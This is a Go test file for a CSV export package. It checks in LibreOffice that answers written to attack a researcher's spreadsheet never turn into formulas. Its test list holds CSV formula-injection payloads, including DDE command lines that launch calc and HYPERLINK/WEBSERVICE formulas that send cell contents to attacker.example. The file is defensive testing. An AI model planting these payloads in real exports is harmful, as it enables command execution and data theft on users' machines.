package export

import (
	"bytes"
	"context"
	"encoding/xml"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// The tests in this file open exports in the real LibreOffice (soffice,
// from Debian's libreoffice-calc, which scripts/deps installs).

var sofficeProfile struct {
	once sync.Once
	dir  string
}

// soffice converts in to format (a file extension such as "fods") in a
// fresh folder, reading it with the import filter options given (empty for
// the default), and returns the path of the result.
func soffice(t *testing.T, in, format, infilter string) string {
	t.Helper()
	bin, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("soffice not found: install libreoffice-calc (scripts/deps does) to test exports in LibreOffice")
	}
	sofficeProfile.once.Do(func() {
		// One profile for the whole run: the first start makes it.
		sofficeProfile.dir, _ = os.MkdirTemp("", "export-soffice-")
	})
	out := t.TempDir()
	args := []string{"-env:UserInstallation=file://" + sofficeProfile.dir, "--headless", "--norestore"}
	if infilter != "" {
		args = append(args, "--infilter="+infilter)
	}
	args = append(args, "--convert-to", format, "--outdir", out, in)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Env = append(os.Environ(), "HOME="+sofficeProfile.dir)
	msg, err := cmd.CombinedOutput()
	res := filepath.Join(out, strings.TrimSuffix(filepath.Base(in), filepath.Ext(in))+"."+format)
	if _, serr := os.Stat(res); err != nil || serr != nil {
		t.Fatalf("soffice %s: %v %v\n%s", strings.Join(args, " "), err, serr, msg)
	}
	return res
}

// csvFilter returns LibreOffice's CSV import options: UTF-8, from line 1,
// the given separators and text delimiter (as character codes), quoted
// fields read like any other (so a quoted formula is a formula), special
// numbers detected and formulas evaluated — the most dangerous settings.
// The tokens are documented in LibreOffice's help, "CSV Filter Options".
func csvFilter(separators string, delimiter int) string {
	return fmt.Sprintf("Text - txt - csv (StarCalc):%s,%d,76,1,,0,false,true,false,false,false,-1,true", separators, delimiter)
}

// odsCell is a cell of a flat ODF spreadsheet as LibreOffice saved it.
type odsCell struct {
	formula   string // table:formula, empty if the cell is not a formula
	valueType string // office:value-type: string, float, …; empty if empty
	value     string // office:value of numbers
	text      string // what the cell shows, paragraphs joined by "\n"
}

// readFODS returns the sheets of a flat ODF spreadsheet by name, as rows of
// cells, with trailing empty cells and rows dropped.
func readFODS(t *testing.T, path string) map[string][][]odsCell {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	const (
		table  = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
		office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
		text   = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
	)
	attr := func(e xml.StartElement, space, local string) string {
		for _, a := range e.Attr {
			if a.Name.Space == space && a.Name.Local == local {
				return a.Value
			}
		}
		return ""
	}
	sheets := map[string][][]odsCell{}
	var sheet string
	var cell *odsCell
	var paras []string
	var inP bool
	var repeat int
	dec := xml.NewDecoder(f)
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		switch e := tok.(type) {
		case xml.StartElement:
			switch {
			case e.Name.Space == table && e.Name.Local == "table":
				sheet = attr(e, table, "name")
			case e.Name.Space == table && e.Name.Local == "table-row":
				sheets[sheet] = append(sheets[sheet], nil)
			case e.Name.Space == table && (e.Name.Local == "table-cell" || e.Name.Local == "covered-table-cell"):
				cell = &odsCell{formula: attr(e, table, "formula"), valueType: attr(e, office, "value-type"), value: attr(e, office, "value")}
				repeat = 1
				if n := attr(e, table, "number-columns-repeated"); n != "" {
					fmt.Sscan(n, &repeat)
					repeat = min(repeat, 1000) // runs of empty cells to the sheet's edge
				}
				paras = nil
			case e.Name.Space == text && e.Name.Local == "p":
				paras, inP = append(paras, ""), true
			case e.Name.Space == text && e.Name.Local == "s" && inP:
				n := 1
				fmt.Sscan(attr(e, text, "c"), &n)
				paras[len(paras)-1] += strings.Repeat(" ", n)
			case e.Name.Space == text && e.Name.Local == "tab" && inP:
				paras[len(paras)-1] += "\t"
			case e.Name.Space == text && e.Name.Local == "line-break" && inP:
				paras[len(paras)-1] += "\n"
			}
		case xml.CharData:
			if inP {
				paras[len(paras)-1] += string(e)
			}
		case xml.EndElement:
			switch {
			case e.Name.Space == text && e.Name.Local == "p":
				inP = false
			case e.Name.Space == table && (e.Name.Local == "table-cell" || e.Name.Local == "covered-table-cell"):
				rows := sheets[sheet]
				cell.text = strings.Join(paras, "\n")
				for range repeat {
					rows[len(rows)-1] = append(rows[len(rows)-1], *cell)
				}
			}
		}
	}
	for name, rows := range sheets {
		for i, r := range rows {
			for len(r) > 0 && r[len(r)-1] == (odsCell{}) {
				r = r[:len(r)-1]
			}
			rows[i] = r
		}
		for len(rows) > 0 && len(rows[len(rows)-1]) == 0 {
			rows = rows[:len(rows)-1]
		}
		sheets[name] = rows
	}
	return sheets
}

// formulas returns every formula cell of a spreadsheet, described.
func formulas(sheets map[string][][]odsCell) []string {
	var out []string
	for name, rows := range sheets {
		for i, r := range rows {
			for j, c := range r {
				if c.formula != "" {
					out = append(out, fmt.Sprintf("%s row %d column %d: %s", name, i+1, j+1, c.formula))
				}
			}
		}
	}
	return out
}

// nasty are answers written to attack a researcher's spreadsheet or to
// hide what they say, and answers that are harmless and must stay as they
// are.
var nasty = []string{
	"=1+1",
	"x;=1+1",
	"multi\n=5+5;z",
	"=cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	`=HYPERLINK("http://attacker.example/?leak="&A1;"click")`,
	`=HYPERLINK("http://attacker.example/","x")`,
	`=WEBSERVICE("http://attacker.example/")`,
	`=DDE("cmd";"/C calc";"x")`,
	"＝1+1",
	"＠SUM(1)",
	"\t=1+1",
	"\r=1+1",
	" =1+1",
	`"=1+1"`,
	`""=1+1`,
	"a,=1+1",
	"a\t=1+1",
	"a =1+1",
	"a|=1+1",
	`a;"=1+1";b`,
	`a,"=1+1",b`,
	"line\r\n=1+1",
	"-1;=1+1",
	"=1+1;=2+2,=3+3\t=4+4 =5+5|=6+6",
	"x\n\n=1+1\n-1+A1",
	`x;"-1;+cmd|'/C calc'!A0"`,
	"\uFEFF=1+1",
	"\u202E=1+1",
	"a\u2028=1+1",
	"- bullet\n- bullet =1+1",
	"'=already quoted",
	// Harmless: must come out exactly.
	"+86 10 1234 5678",
	"+82 (0)10-1234-5678",
	"-5",
	"1990-1995",
	"e-mail me; a@b",
	".s",
	`\.n`,
	`quote " inside, and ""two""`,
	"👩‍💻 🏳️‍🌈 🇰🇷 🧑🏽‍🚀",
	"손전화로; 인터네트를, 썼다",
	"می\u200Cخواهم",
}

func nastyRows(t testing.TB) []Row {
	var rows []Row
	for i, v := range nasty {
		rows = append(rows, Row{
			Pseudonym: "김석한", PseudonymRoman: fmt.Sprintf("Kim Seok-han %d", i), Language: "ko", Version: current(t),
			Answers: map[string][]string{"left": {"2012"}, "media": {"usb"}, "media_other": {strings.ReplaceAll(strings.ReplaceAll(v, "\n", " "), "\r", " ")}, "story": {v}, "first": {"2010-winter"}},
		})
	}
	return rows
}

// TestCSVInLibreOffice opens the CSV of nasty answers in LibreOffice with
// formula evaluation on, splitting fields on comma, semicolon, tab, space,
// vertical bar or all of them, honouring double quotes, single quotes or
// no quotes at all (so that every line break starts a row): no cell may be
// a formula.
func TestCSVInLibreOffice(t *testing.T) {
	s := schema(t)
	path := filepath.Join(t.TempDir(), "testimonies.csv")
	var b bytes.Buffer
	if err := WriteCSV(&b, s, Slice(nastyRows(t)), CSVOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, sep := range []string{"44", "59", "9", "32", "124", "44/59/9/32/124"} {
		for _, delim := range []int{'"', '\'', 1} {
			t.Run(fmt.Sprintf("separators %s, delimiter %d", sep, delim), func(t *testing.T) {
				sheets := readFODS(t, soffice(t, path, "fods", csvFilter(sep, delim)))
				if len(sheets) == 0 {
					t.Fatal("LibreOffice read nothing")
				}
				for _, f := range formulas(sheets) {
					t.Errorf("formula in %s", f)
				}
			})
		}
	}
}

// TestCSVInLibreOfficeHarnessFindsFormulas checks that the test above can
// fail: the same answers written as testimony used to write them (Go's
// csv writer, a quote before =, +, -, @, tab or CR at the start of a
// field) do become formulas in LibreOffice.
func TestCSVInLibreOfficeHarnessFindsFormulas(t *testing.T) {
	var b bytes.Buffer
	b.WriteString("\uFEFFstory\r\n")
	for _, v := range nasty {
		if strings.ContainsAny(v[:1], "=+-@\t\r") {
			v = "'" + v
		}
		if strings.ContainsAny(v, "\",\r\n") || v[0] == ' ' {
			v = `"` + strings.ReplaceAll(v, `"`, `""`) + `"`
		}
		b.WriteString(v + "\r\n")
	}
	path := filepath.Join(t.TempDir(), "old.csv")
	if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	if fs := formulas(readFODS(t, soffice(t, path, "fods", csvFilter("59", '"')))); len(fs) == 0 {
		t.Fatal("LibreOffice found no formula in the old CSV with ';' as separator: the harness does not evaluate formulas")
	}
}

// TestCSVValuesInLibreOffice opens the CSV as a researcher in a
// comma-separated locale would, with the most dangerous settings, and
// checks that every cell holds what was written: text exactly, numbers
// as numbers.
func TestCSVValuesInLibreOffice(t *testing.T) {
	s := schema(t)
	for _, labels := range []string{"", "en"} {
		t.Run("labels "+labels, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "testimonies.csv")
			var b bytes.Buffer
			if err := WriteCSV(&b, s, Slice(nastyRows(t)), CSVOptions{Labels: labels}); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
				t.Fatal(err)
			}
			want := readCSV(t, b.Bytes())
			sheets := readFODS(t, soffice(t, path, "fods", csvFilter("44", '"')))
			var got [][]odsCell
			for _, rows := range sheets {
				got = rows
			}
			compareSheet(t, got, want)
		})
	}
}

// compareSheet checks LibreOffice's cells against the fields written:
// numbers must be numbers of the same value, everything else text equal
// to the field.
func compareSheet(t *testing.T, got [][]odsCell, want [][]string) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("LibreOffice read %d rows, want %d", len(got), len(want))
	}
	for i := range want {
		for j, w := range want[i] {
			var c odsCell
			if j < len(got[i]) {
				c = got[i][j]
			}
			if c.formula != "" {
				t.Errorf("row %d column %d is a formula: %s", i+1, j+1, c.formula)
			}
			if c.valueType == "float" {
				if c.value != strings.TrimLeft(w, "0") && c.value != w {
					t.Errorf("row %d column %d: number %s, want %q", i+1, j+1, c.value, w)
				}
				continue
			}
			if c.text != w {
				t.Errorf("row %d column %d: %q (%s), want %q", i+1, j+1, c.text, c.valueType, w)
			}
		}
	}
}
